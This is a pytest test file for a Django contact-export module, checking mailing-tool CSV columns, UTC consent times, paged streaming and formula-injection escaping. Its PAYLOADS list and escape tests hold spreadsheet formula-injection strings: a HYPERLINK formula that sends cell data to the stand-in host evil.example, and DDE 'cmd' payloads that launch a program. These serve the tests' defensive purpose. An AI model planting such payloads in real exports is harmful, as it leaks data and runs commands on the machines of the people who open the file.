"""CSV export: streamed, ready for a mailing tool, safe to open in a spreadsheet."""

import csv
import io
import types

import pytest
from django.core.management import CommandError, call_command

from django_customer_contacts import export, get_contact_model
from django_customer_contacts.export import csv_response, escape_cell, export_rows, stream_csv, write_csv
from django_customer_contacts.models import Tag

HEADER = [
    "Email Address",
    "First Name",
    "Last Name",
    "Phone Number",
    "Company",
    "Job Title",
    "Language",
    "Tags",
    "Marketing Consent",
    "Consent Given At",
    "Consent Source",
    "Contact ID",
]


def parse(text):
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def subscriber(customer, make_contact):
    jane = make_contact(customer, marketing_consent=True, marketing_consent_source="web form", language="en")
    jane.add_email("jane@example.com")
    jane.add_phone("07911 123456")
    jane.tags.add(Tag.objects.create(name="Newsletter"), Tag.objects.create(name="VIP"))
    return jane


@pytest.fixture
def bystander(customer, make_contact, subscriber):
    bob = make_contact(customer, first_name="Bob", last_name="Jones")
    bob.add_email("bob@example.com")
    return bob


def test_consented_export_has_mailing_tool_columns(subscriber, bystander):
    out = io.StringIO()
    assert write_csv(out, consented=True) == 1
    text = out.getvalue()
    assert text.splitlines()[0].split(",") == HEADER
    assert text.endswith("\r\n")
    (row,) = parse(text)
    assert row["Email Address"] == "jane@example.com"
    assert (row["First Name"], row["Last Name"]) == ("Jane", "Smith")
    assert row["Phone Number"] == "+447911123456"  # E.164, not escaped: a number is no formula
    assert row["Company"] == "Acme Ltd"
    assert row["Tags"] == "Newsletter, VIP"
    assert row["Marketing Consent"] == "yes"
    assert row["Consent Given At"] == subscriber.marketing_consent_at.isoformat(timespec="seconds")
    assert row["Consent Source"] == "web form"
    assert row["Contact ID"] == str(subscriber.pk)


@pytest.mark.parametrize("database_writes_text", [True, False])
def test_consent_time_is_utc_to_the_second_whatever_the_active_time_zone(subscriber, monkeypatch, database_writes_text):
    # 23:59:58.75 in New York is the next day in UTC: the column says so, to the second.
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from django.utils import timezone

    when = datetime(2026, 3, 1, 23, 59, 58, 750000, tzinfo=ZoneInfo("America/New_York"))
    get_contact_model().objects.filter(pk=subscriber.pk).update(marketing_consent_at=when)
    if not database_writes_text:  # the datetime read and converted, as on other databases
        monkeypatch.setattr(export, "_consent_text", lambda using: False)
    with timezone.override("Asia/Tokyo"):
        (row,) = parse("".join(stream_csv(consented=True)))
    assert row["Consent Given At"] == "2026-03-02T04:59:58+00:00"


def test_without_consented_every_active_contact_is_exported(subscriber, bystander, make_contact, customer):
    make_contact(customer, first_name="Gone", is_active=False)
    rows = parse("".join(stream_csv()))
    assert [row["First Name"] for row in rows] == ["Jane", "Bob"]
    assert rows[1]["Marketing Consent"] == "no"


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("columns", [export.EXPORT_COLUMNS, export.EXPORT_COLUMNS[:3], [("Name", str)]])
def test_write_csv_writes_what_stream_csv_streams(make_customer, make_contact, columns):
    """write_csv() writes a page at a time, stream_csv() a line: the same text, escaped alike."""
    for index, payload in enumerate(PAYLOADS):
        customer = make_customer(name=payload if index % 2 else f"Customer {index}")
        contact = make_contact(customer, first_name=payload, last_name=f"L{index}", job_title=payload)
        contact.add_email(f"p{index}@example.com")
        contact.tags.add(Tag.objects.create(name=f"{payload} {index}"))
    out = io.StringIO()
    assert write_csv(out, columns=columns, chunk_size=2) == len(PAYLOADS)
    assert out.getvalue() == "".join(stream_csv(columns=columns, chunk_size=2))
    rows = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    assert len(rows) == len(PAYLOADS) and all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_defused_in_every_text_cell(customer, make_contact, payload):
    contact = make_contact(
        customer,
        first_name=payload,
        last_name=payload,
        job_title=payload,
        marketing_consent=True,
        marketing_consent_source=payload,
    )
    contact.add_email("jane@example.com")
    contact.tags.add(Tag.objects.create(name=payload))
    (row,) = parse("".join(stream_csv(consented=True)))
    for column in ("First Name", "Last Name", "Job Title", "Consent Source"):
        assert row[column] == "'" + payload, column
    assert row["Tags"].startswith("'")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("+447911123456", "+447911123456"),
        ("-5", "-5"),
        ("3.14", "3.14"),
        ("Jane", "Jane"),
        ("a=b", "a=b"),
        (None, ""),
        (42, "42"),
    ],
)
def test_escape_cell(value, cell):
    assert escape_cell(value) == cell


def test_a_company_name_is_escaped_too(make_customer, make_contact):
    shady = make_customer(name="=cmd|' /C calc'!A0")
    make_contact(shady).add_email("x@example.com")
    (row,) = parse("".join(stream_csv()))
    assert row["Company"] == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("streams", "queries"),
    [
        # iterator() streams (PostgreSQL, SQLite): one query for the contacts, one per page for tags.
        (True, 1 + 3),
        # It would buffer everything (MySQL, MariaDB): a query per page by key, and the tags.
        (False, 3 * 2),
    ],
)
def test_export_reads_a_page_at_a_time(
    customer, make_contact, monkeypatch, django_assert_num_queries, streams, queries
):
    monkeypatch.setattr(export, "iterator_streams", lambda using: streams)
    made = [make_contact(customer, first_name=f"P{index}").pk for index in range(5)]
    lines = stream_csv(chunk_size=2)
    assert isinstance(lines, types.GeneratorType)
    with django_assert_num_queries(0):
        next(lines)  # the header: nothing read yet
    with django_assert_num_queries(queries):
        rows = list(csv.reader(lines))
    assert [int(row[-1]) for row in rows] == made


def test_each_database_reads_the_way_that_keeps_memory_flat(db):
    from django.db import connection

    expected = {"postgresql": True, "sqlite": True, "mysql": False}[connection.vendor]
    assert export.iterator_streams("default") is expected


@pytest.mark.parametrize("streams", [True, False])
def test_export_order_and_completeness_across_pages(customer, make_contact, monkeypatch, streams):
    monkeypatch.setattr(export, "iterator_streams", lambda using: streams)
    made = [make_contact(customer, first_name=f"P{index}").pk for index in range(7)]
    rows = list(export_rows(chunk_size=3))[1:]
    assert [int(row[-1]) for row in rows] == made


@pytest.mark.parametrize("streams", [True, False])
def test_each_row_has_its_own_tags_across_pages(customer, make_contact, monkeypatch, streams):
    # Every other contact is left out (no consent), tagged too: a page's keys are not a range.
    monkeypatch.setattr(export, "iterator_streams", lambda using: streams)
    tags = [Tag.objects.create(name=name) for name in ("Gamma", "Alpha", "Beta")]
    expected = {}
    for index in range(9):
        consents = index % 2 == 0
        contact = make_contact(
            customer, marketing_consent=consents, marketing_consent_source="web form" if consents else ""
        )
        contact.add_email(f"p{index}@example.com")
        contact.tags.set(tags[: index % 3])
        if consents:
            expected[contact.pk] = ", ".join(sorted(tag.name for tag in tags[: index % 3]))
    rows = parse("".join(stream_csv(consented=True, chunk_size=2)))
    assert {int(row["Contact ID"]): row["Tags"] for row in rows} == expected
    assert sorted(set(expected.values())) == ["", "Alpha, Gamma", "Gamma"]


def test_a_sliced_queryset_is_exported_too(customer, make_contact):
    for index in range(4):
        make_contact(customer, first_name=f"P{index}")
    queryset = get_contact_model().objects.order_by("pk")[:2]
    assert len(list(export_rows(queryset))) == 3


def test_csv_response_is_a_streaming_download(subscriber):
    response = csv_response(consented=True, filename="consented.csv")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="consented.csv"'
    rows = parse(b"".join(response.streaming_content).decode())
    assert [row["Email Address"] for row in rows] == ["jane@example.com"]


# -- export_contacts -----------------------------------------------------------------


def test_export_contacts_consented_writes_to_stdout(subscriber, bystander):
    out, err = io.StringIO(), io.StringIO()
    call_command("export_contacts", "--consented", stdout=out, stderr=err)
    assert [row["Email Address"] for row in parse(out.getvalue())] == ["jane@example.com"]
    assert "\r\n\n" not in out.getvalue()
    assert "Exported 1 contact." in err.getvalue()


def test_export_contacts_to_a_file(subscriber, bystander, tmp_path):
    target = tmp_path / "contacts.csv"
    call_command("export_contacts", "--output", str(target), stdout=io.StringIO(), stderr=io.StringIO())
    with target.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["First Name"] for row in rows] == ["Jane", "Bob"]


def test_export_contacts_for_one_customer(subscriber, make_customer, make_contact):
    make_contact(make_customer(), first_name="Elsewhere")
    out = io.StringIO()
    call_command("export_contacts", "--customer", str(subscriber.customer_id), stdout=out, stderr=io.StringIO())
    assert [row["First Name"] for row in parse(out.getvalue())] == ["Jane"]


def test_export_contacts_refuses_a_bad_customer_key(db):
    with pytest.raises(CommandError, match="not a valid customer key"):
        call_command("export_contacts", "--customer", "not-a-key", stdout=io.StringIO(), stderr=io.StringIO())


def test_export_contacts_refuses_an_unwritable_file(db, tmp_path):
    with pytest.raises(CommandError, match="Can't write"):
        call_command("export_contacts", "--output", str(tmp_path / "missing" / "x.csv"), stderr=io.StringIO())
